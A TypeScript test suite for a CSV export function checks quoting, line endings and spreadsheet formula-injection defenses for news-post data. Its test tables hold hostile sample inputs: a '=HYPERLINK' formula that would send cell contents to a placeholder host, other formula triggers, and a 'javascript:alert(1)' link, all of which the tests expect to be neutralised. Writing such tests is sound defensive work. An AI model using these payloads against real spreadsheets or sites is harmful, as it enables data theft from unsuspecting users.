import { describe, expect, it } from "vitest";
import type { Instant, PostId } from "../../../lib/model.ts";
import { CSV_FILE_START, writeCsv } from "../../../lib/reading/take-away/write-csv.ts";
import { exampleOf, namesUnder } from "./documented.ts";
import { NIGHT, TIMES, takeAway, takenPost } from "./taken-posts.ts";

/** Reads RFC 4180, strictly: what a cell holds between quotes, and nothing outside them but commas and CRLF. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let rest = text;
  while (rest !== "") {
    const [whole, quoted, bare] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?=,|\r\n)/.exec(rest) ?? [];
    if (whole === undefined) throw new Error(`no cell: ${JSON.stringify(rest.slice(0, 60))}`);
    row.push(quoted?.replaceAll('""', '"') ?? bare ?? "");
    rest = rest.slice(whole.length);
    if (rest.startsWith(",")) rest = rest.slice(1);
    else {
      rest = rest.slice(2);
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const [HEADER = []] = readCsv(writeCsv(takeAway([]), TIMES));
const cellOf = (over: Parameters<typeof takenPost>[0], column: string): string => {
  const [, row = []] = readCsv(writeCsv(takeAway([takenPost(over)]), TIMES));
  return row[HEADER.indexOf(column)] ?? "";
};

describe("writeCsv", () => {
  it("writes what the documentation shows", () => {
    expect(writeCsv(takeAway(NIGHT), TIMES).replaceAll("\r\n", "\n")).toBe(exampleOf("csv"));
    expect(HEADER).toEqual(namesUnder("CSV"));
  });

  it("ends every record with CRLF, the last too, and gives each as many cells as the header", () => {
    const text = writeCsv(takeAway(NIGHT), TIMES);
    expect(text.endsWith("\r\n")).toBe(true);
    const rows = readCsv(text);
    expect(rows.map((row) => row.length)).toEqual([14, 14, 14, 14]);
  });

  it.each<[string, Parameters<typeof takenPost>[0], string, string]>([
    ["a comma", { title: "Wind, rain" }, "headline", "Wind, rain"],
    ["quotes", { title: '"Safe", he says' }, "headline", '"Safe", he says'],
    ["a line end", { text: "one\r\ntwo" }, "text", "one\ntwo"],
    ["several authors", { authors: ["A, B", "C"] }, "authors", "A, B; C"],
    ["several kinds", { kinds: ["keyEvent", "pinned"] }, "kinds", "keyEvent; pinned"],
    ["no time", { publishedAt: null }, "date", ""],
    ["no time, so no zone", { publishedAt: null }, "utc_offset", ""],
    ["no time, so nothing inferred", { publishedAt: null, timeCertain: false }, "date_inferred", ""],
    ["a date that was inferred", { timeCertain: false }, "date_inferred", "yes"],
    ["a modification", { modifiedAt: "2023-03-26T01:20:00Z" as Instant }, "modified_utc", "2023-03-26T01:20:00Z"],
    ["no title", { title: null }, "headline", ""],
    ["a permalink that runs", { permalink: "javascript:alert(1)" }, "permalink", ""],
    ["another alphabet", { title: "Шторм 🌊 עברית" }, "headline", "Шторм 🌊 עברית"],
  ])("keeps %s", (_, over, column, expected) => {
    expect(cellOf(over, column)).toBe(expected);
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+49 30 1234", "'+49 30 1234"],
    ["-5 °C", "'-5 °C"],
    ["@courier", "'@courier"],
    ["+++ Breaking +++", "'+++ Breaking +++"],
    ['=HYPERLINK("https://x.example?"&A1)', '\'=HYPERLINK("https://x.example?"&A1)'],
    ["＝1", "'＝1"],
    ["\t=1", "'=1"],
    ["\u200B=1", "'\u200B=1"],
    ["one; =1", "one;' =1"],
    ["one\n=1", "one\n'=1"],
  ])("lets no spreadsheet reckon %j", (text, expected) => {
    expect(cellOf({ text }, "text")).toBe(expected);
    expect(cellOf({ id: text as PostId }, "id")).toBe(expected.replace("\n", " ").replace("one '=1", "one =1"));
  });

  it.each(["1 + 1 = 2", "a-b", "one, =1", "mail@courier.example", "a; b", "'quoted'", "2023-03-26"])("leaves %j alone", (text) => {
    expect(cellOf({ text }, "text")).toBe(text);
  });

  it("starts a file with a byte order mark and what is copied without", () => {
    expect(CSV_FILE_START).toBe("\uFEFF");
    expect(writeCsv(takeAway([]), TIMES).charAt(0)).toBe("i");
  });
});
